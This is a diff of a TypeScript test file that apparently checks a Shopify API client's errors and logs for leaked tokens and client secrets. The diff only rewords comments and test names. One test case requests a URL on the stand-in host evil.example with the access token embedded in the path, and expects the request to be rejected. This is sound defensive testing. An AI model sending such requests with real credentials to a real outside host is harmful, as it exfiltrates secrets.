@@ -14,7 +14,7 @@ const mutation =
   'mutation M($input: CustomerInput!) { customerCreate(input: $input) { userErrors { field message } } }';
 const variables = { input: { email, note: row, password: refreshToken } };
 
-/** What a server can repeat in the text of an error: the credentials of the request, not its variables. */
+/** What a server can repeat in the text of an error: the credentials of the request, but not its variables. */
 const said = `refused ${token} ${refreshToken} ${clientSecret}`;
 
 const headers = {
@@ -44,13 +44,13 @@ const customers = `query Customers($after: String) {
   customers(first: 5, after: $after) { nodes { email } pageInfo { hasNextPage endCursor } }
 }`;
 
-/** A cursor holds what Shopify sorts by, such as a name. */
+/** A cursor contains what Shopify sorts by, such as a name. */
 const paginate =
   (after: string): Call =>
   (shop) =>
     shop.paginate(customers, {}, { after }).pages().next();
 
-/** Lets a call fail and gathers what was seen of it. */
+/** Makes a call fail and collects what was visible of it. */
 async function failing(step: Step, call: Call = mutate, options: Partial<CommonOptions> = {}): Promise<Exposed> {
   const lines: unknown[] = [];
   const log = (...line: unknown[]): unknown => lines.push(line);
@@ -64,7 +64,7 @@ async function failing(step: Step, call: Call = mutate, options: Partial<CommonO
   return { error, events, lines };
 }
 
-/** A server's error as `pg` makes it. */
+/** A server's error as created by `pg`. */
 const ofPostgres = (code: string, message: string): Error =>
   Object.assign(new Error(message), {
     code,
@@ -98,7 +98,7 @@ const kinds: readonly (readonly [name: string, code: ErrorCode, provoke: () => P
     () => failing(refusedWith(variable, { customerCreate: { note: row, userErrors: [] } }), mutate),
   ],
   ['an entry that is text', 'GRAPHQL_ERROR', () => failing(answer(200, { errors: [said] }), query)],
-  ['errors that are no list', 'GRAPHQL_ERROR', () => failing(answer(200, { errors: { base: said } }), query)],
+  ['errors that are not a list', 'GRAPHQL_ERROR', () => failing(answer(200, { errors: { base: said } }), query)],
   [
     'user errors',
     'USER_ERROR',
@@ -198,7 +198,7 @@ const kinds: readonly (readonly [name: string, code: ErrorCode, provoke: () => P
     () => failing(good(), (shop) => shop.graphql(mutation, variables, { headers: { 'x-note': `${token}\n${row}` } })),
   ],
   [
-    'a path that is none',
+    'an invalid path',
     'VALIDATION_FAILED',
     () => failing(good(), (shop) => shop.rest.get(`https://evil.example/${token}`)),
   ],
@@ -245,7 +245,7 @@ const kinds: readonly (readonly [name: string, code: ErrorCode, provoke: () => P
     }),
   ],
   [
-    'a payload that is no JSON',
+    'a payload that is not JSON',
     'QUEUE_FAILED',
     () =>
       thrownBy(() =>
